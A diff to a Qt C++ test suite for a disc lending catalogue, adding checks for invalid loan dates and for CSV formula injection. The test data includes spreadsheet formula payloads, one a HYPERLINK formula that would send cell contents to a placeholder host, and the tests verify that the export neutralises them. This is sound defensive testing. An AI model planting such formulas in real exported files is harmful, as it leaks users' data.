@@ -3,6 +3,7 @@
 // another process lends, and failures that leave nothing behind.
 #include <QDir>
 #include <QProcess>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTest>
 #include <sstream>
@@ -115,7 +116,9 @@ private slots:
     void historyRowsAndFilters();
     void overdueFromTheDayAfterTheLimit_data();
     void overdueFromTheDayAfterTheLimit();
+    void wrongDatesAreMarkedAndCountedNowhere();
     void csvReadsBackAsWritten();
+    void spreadsheetMakesNoFormula();
     void htmlEscapesText();
     void backupIsOneMomentWhileAnotherProcessLends();
     void failedOrStoppedCopiesLeaveNothing_data();
@@ -206,14 +209,48 @@ void Reports::overdueFromTheDayAfterTheLimit() {
         if (row.section('|', 2, 2) == "1") QCOMPARE(row.section('|', 6), marker);
 }
 
-void Reports::csvReadsBackAsWritten() {
-    const QStringList names = {"Say \"hi\"", "a,b", "две\r\nстроки", "Ёлка — ёж",
-                               " blanks ",   "",    "end\"",         "\"quoted\", twice\n"};
+// A loan back before it went out and one dated a day not yet come (as another program
+// could leave them) show their dates as stored, marked, without days out; the summary
+// leaves them out of the average and the overdue count. They showed -70 and -2,912,102
+// days and pulled the average with them.
+void Reports::wrongDatesAreMarkedAndCountedNowhere() {
+    const fixture::FixtureCatalogue catalogue(
+        "UPDATE Dolg SET DatK = '2023-11-22' WHERE NomCD = 2;"
+        "INSERT INTO Dolg(NomCD, Dolgnik, DatN, DatK, Dolg) VALUES (3, 4, '9999-12-31', NULL, "
+        "TRUE);");
+    QCOMPARE(historyRows(catalogue, {}, kFirstOfApril),
+             QStringList({"3|Новогодние ПЕСНИ|Петров Пётр|31.12.9999|||даты неверны", kRow3,
+                          "2|Abbey Road|Егоров Пётр|10.01.2024|22.11.2023||даты неверны", kRow1}));
+    QCOMPARE(QString::fromStdString(summaryOf(catalogue, {}, kFirstOfApril)),
+             "Выдач: 4, на руках: 3, из них просрочено: 1, в среднем дней на руках: 29,0");
+}
+
+namespace {
+
+// Names a CSV reader trips on, and names a spreadsheet would take for a formula.
+const QStringList kCsvNames = {"Say \"hi\"",
+                               "a,b",
+                               "две\r\nстроки",
+                               "Ёлка — ёж",
+                               " blanks ",
+                               "",
+                               "end\"",
+                               "\"quoted\", twice\n",
+                               "=1+1",
+                               "+1",
+                               "-1",
+                               "@A1",
+                               "\tтаб",
+                               "\rCR",
+                               "=HYPERLINK(\"http://x?\"&A1;\"y\")"};
+
+// The disk list of a catalogue whose disks bear kCsvNames, as CSV.
+std::string csvOfAwkwardNames() {
     std::string rows =
         "INSERT INTO SprKategoy(Num, Name) VALUES (1, 'Фильмы, \"лучшие\"');\n"
         "INSERT INTO SprType(N, Tip) VALUES (1, 'DVD');\n";
-    for (int i = 0; i < names.size(); ++i) {
-        QString sql = names[i];
+    for (int i = 0; i < kCsvNames.size(); ++i) {
+        QString sql = kCsvNames[i];
         sql.replace('\'', "''");
         rows += QString(
                     "INSERT INTO CDBase(N, Name, Opisan, Kategory, Tip, Dolg) VALUES (%1, "
@@ -225,17 +262,46 @@ void Reports::csvReadsBackAsWritten() {
     }
     const fixture::TemporaryCatalogue catalogue(rows);
     std::ostringstream out;
-    QCOMPARE(tools::exportCatalogue(catalogue.root(), tools::ExportWhat::Disks,
-                                    reports::Format::Csv, out),
-             static_cast<long long>(names.size()));
-    const QList<QStringList> records = parseCsv(QString::fromStdString(out.str()));
-    QCOMPARE(records.size(), names.size() + 1);
+    tools::exportCatalogue(catalogue.root(), tools::ExportWhat::Disks, reports::Format::Csv, out);
+    return out.str();
+}
+
+}  // namespace
+
+// Every cell reads back as written; one a spreadsheet would take for a formula reads
+// back with an apostrophe before it, as text.
+void Reports::csvReadsBackAsWritten() {
+    const QList<QStringList> records = parseCsv(QString::fromStdString(csvOfAwkwardNames()));
+    QCOMPARE(records.size(), kCsvNames.size() + 1);
     QCOMPARE(records.front(), QStringList({"Номер", "Наименование", "Категория", "Носитель",
                                            "На руках", "Описание"}));
-    for (int i = 0; i < names.size(); ++i)
-        QCOMPARE(records[i + 1],
-                 QStringList({QString::number(i + 1), names[i], "Фильмы, \"лучшие\"", "DVD",
-                              i % 2 ? "да" : "", "Описание: " + names[i]}));
+    for (int i = 0; i < kCsvNames.size(); ++i) {
+        const QString& name = kCsvNames[i];
+        const bool formulaLike = !name.isEmpty() && QString("=+-@\t\r").contains(name[0]);
+        QCOMPARE(records[i + 1], QStringList({QString::number(i + 1),
+                                              formulaLike ? "'" + name : name, "Фильмы, \"лучшие\"",
+                                              "DVD", i % 2 ? "да" : "", "Описание: " + name}));
+    }
+}
+
+// LibreOffice, opening that CSV as a user would, makes no formula of any cell.
+void Reports::spreadsheetMakesNoFormula() {
+    const QString soffice = QStandardPaths::findExecutable("soffice");
+    if (soffice.isEmpty()) QSKIP("LibreOffice (soffice) is not installed");
+    const QTemporaryDir tmp;
+    QFile csv(tmp.filePath("disks.csv"));
+    QVERIFY(csv.open(QIODevice::WriteOnly));
+    csv.write(QByteArray::fromStdString(csvOfAwkwardNames()));
+    csv.close();
+    QProcess office;
+    office.start(soffice, {"-env:UserInstallation=file://" + tmp.filePath("profile"), "--headless",
+                           "--convert-to", "fods", "--outdir", tmp.path(), csv.fileName()});
+    QVERIFY(office.waitForFinished(180000));
+    QFile sheet(tmp.filePath("disks.fods"));
+    QVERIFY2(sheet.open(QIODevice::ReadOnly), qPrintable(office.readAll()));
+    const QByteArray xml = sheet.readAll();
+    QVERIFY(xml.contains("HYPERLINK"));
+    QVERIFY2(!xml.contains("table:formula"), xml.constData());
 }
 
 void Reports::htmlEscapesText() {
